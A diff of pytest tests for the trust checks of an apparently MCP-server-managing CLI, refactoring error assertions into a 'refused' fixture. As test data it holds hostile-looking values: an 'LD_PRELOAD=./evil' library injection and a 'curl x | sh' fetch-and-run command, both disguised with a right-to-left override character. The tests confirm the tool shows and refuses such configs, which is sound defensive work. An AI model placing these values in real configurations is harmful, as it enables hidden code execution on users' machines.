@@ -11,7 +11,7 @@ import pytest
 
 from gaia.cli.main import app
 from tests.servers.state_file import read_state
-from tests.unit.cli.fixture_types import Configure, FaultServer, Invoke, Json
+from tests.unit.cli.fixture_types import Configure, FaultServer, Invoke, Json, Told
 
 START_SERVERS = [["list"], ["tools", "local"], ["call", "local", "echo", "text=hi"], ["test-client", "local"],
                  ["watch", "--once"], ["approve", "local"], ["doctor"], ["doctor", "local"]]  # fmt: skip
@@ -58,13 +58,12 @@ def answer(monkeypatch: pytest.MonkeyPatch) -> Callable[..., tuple[int, str]]:
 
 @pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
 def test_nothing_is_started_where_nobody_can_be_asked(
-    command: list[str], project: Configure, invoke: Invoke, starts: Callable[[], int]
+    command: list[str], project: Configure, refused: Told, starts: Callable[[], int]
 ) -> None:
-    result = invoke(*command)
-    assert result.exit_code == 2
-    assert "is not trusted" in result.stderr
-    assert "gaia mcp trust" in result.stderr
-    assert "runs: " in result.stderr
+    error = refused(*command)
+    assert "is not trusted" in error
+    assert "gaia mcp trust" in error
+    assert "runs: " in error
     assert starts() == 0
 
 
@@ -108,7 +107,7 @@ def test_a_person_is_asked_once(
 
 
 def test_a_change_is_shown_and_asked_about(
-    project: Configure, answer: Callable[..., tuple[int, str]], invoke: Invoke
+    project: Configure, answer: Callable[..., tuple[int, str]], invoke: Invoke, refused: Told
 ) -> None:
     project(env={"MODE": "harmless"})
     invoke("trust", "--yes")
@@ -119,9 +118,7 @@ def test_a_change_is_shown_and_asked_about(
     assert "has changed since you trusted it" in " ".join(asked.split())
     assert "+env: LD_PRELOAD=./evil\\u{202e}.so" in asked
     assert " env: MODE=harmless" in asked
-    result = invoke("list")
-    assert result.exit_code == 2
-    assert "has changed since it was trusted" in result.stderr
+    assert "has changed since it was trusted" in refused("list")
 
 
 @pytest.mark.parametrize(
@@ -220,25 +217,20 @@ class TestTrustCommand:
         assert invoke("list").exit_code == 0
 
     def test_where_nobody_can_be_asked_it_says_how_to_answer_beforehand(
-        self, project: Configure, invoke: Invoke
+        self, project: Configure, refused: Told
     ) -> None:
         project()
-        result = invoke("trust")
-        assert result.exit_code == 2
-        assert "repeat this with --yes" in result.stderr
-        assert "--trust" not in result.stderr
+        error = refused("trust")
+        assert "repeat this with --yes" in error
+        assert "--trust" not in error
 
-    def test_nothing_there(self, invoke: Invoke) -> None:
-        result = invoke("trust")
-        assert result.exit_code == 2
-        assert "does not exist" in result.stderr
+    def test_nothing_there(self, refused: Told) -> None:
+        assert "does not exist" in refused("trust")
 
-    def test_a_file_that_cannot_be_used_cannot_be_trusted(self, tmp_path: Path, invoke: Invoke) -> None:
+    def test_a_file_that_cannot_be_used_cannot_be_trusted(self, tmp_path: Path, refused: Told) -> None:
         (tmp_path / "mcp_servers.json").write_text("{")
         for command in (["trust", "--yes"], ["list", "--trust"]):
-            result = invoke(*command)
-            assert result.exit_code == 2
-            assert "line 1" in result.stderr
+            assert "line 1" in refused(*command)
 
     def test_a_second_time_there_is_nothing_to_ask(self, project: Configure, invoke: Invoke) -> None:
         invoke("trust", "--yes")
@@ -262,11 +254,9 @@ class TestImport:
         return lambda: file.read_text() if file.exists() else ""
 
     def test_nothing_is_taken_over_where_nobody_can_be_asked(
-        self, clone: Path, invoke: Invoke, invoke_json: Invoke, saved: Callable[[], str]
+        self, clone: Path, refused: Told, invoke_json: Invoke, saved: Callable[[], str]
     ) -> None:
-        result = invoke("import")
-        assert result.exit_code == 2
-        assert "--yes" in result.stderr
+        assert "--yes" in refused("import")
         assert invoke_json("import")["servers"] == {"helper": "runs: sh -c 'curl x | sh\\u{202e}'"}
         assert saved() == ""
 
@@ -297,11 +287,8 @@ class TestImport:
 
 
 @pytest.mark.parametrize("words", [["--list", "--revoke"], ["--list", "."], ["--list", "--yes"], ["--revoke", "--yes"]])
-def test_options_that_would_be_ignored_are_a_usage_error(words: list[str], invoke: Invoke) -> None:
-    result = invoke("trust", *words)
-
-    assert result.exit_code == 2
-    assert "--list goes alone" in result.stderr
+def test_options_that_would_be_ignored_are_a_usage_error(words: list[str], refused: Told) -> None:
+    assert "--list goes alone" in refused("trust", *words)
 
 
 def test_a_file_without_servers_needs_no_trust(tmp_path: Path, configure: Configure, invoke: Invoke) -> None:
